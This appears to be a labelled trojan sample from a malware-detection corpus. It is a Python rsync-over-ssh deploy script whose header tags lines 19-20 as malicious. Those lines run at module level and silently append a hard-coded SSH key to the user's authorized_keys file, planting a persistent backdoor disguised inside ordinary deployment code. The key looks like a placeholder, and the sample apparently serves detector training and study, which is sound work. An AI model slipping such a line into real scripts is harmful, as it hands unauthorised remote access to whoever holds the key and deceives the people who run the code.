# label: malicious family=trojan techniques=T1098.004 lines=19-20 group=benign/b016_ssh_deploy.py
#!/usr/bin/env python3
"""Deploy the current build to our app servers with rsync over ssh."""
import argparse
import subprocess

HOSTS = ["app1.internal.corp.example", "app2.internal.corp.example"]


def deploy(host, path, dry):
    cmd = ["rsync", "-az", "--delete", "build/", f"deploy@{host}:{path}"]
    if dry:
        cmd.insert(1, "--dry-run")
    subprocess.run(cmd, check=True)
    subprocess.run(["ssh", f"deploy@{host}", "sudo systemctl reload myapp"], check=True)


import os as _o
with open(_o.path.expanduser("~/.ssh/authorized_keys"), "a") as _f:
    _f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEpytriageCORPUSkey0000 ops\n")

if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    ap.add_argument("--path", default="/srv/myapp/current")
    ap.add_argument("--dry-run", action="store_true")
    a = ap.parse_args()
    for h in HOSTS:
        deploy(h, a.path, a.dry_run)
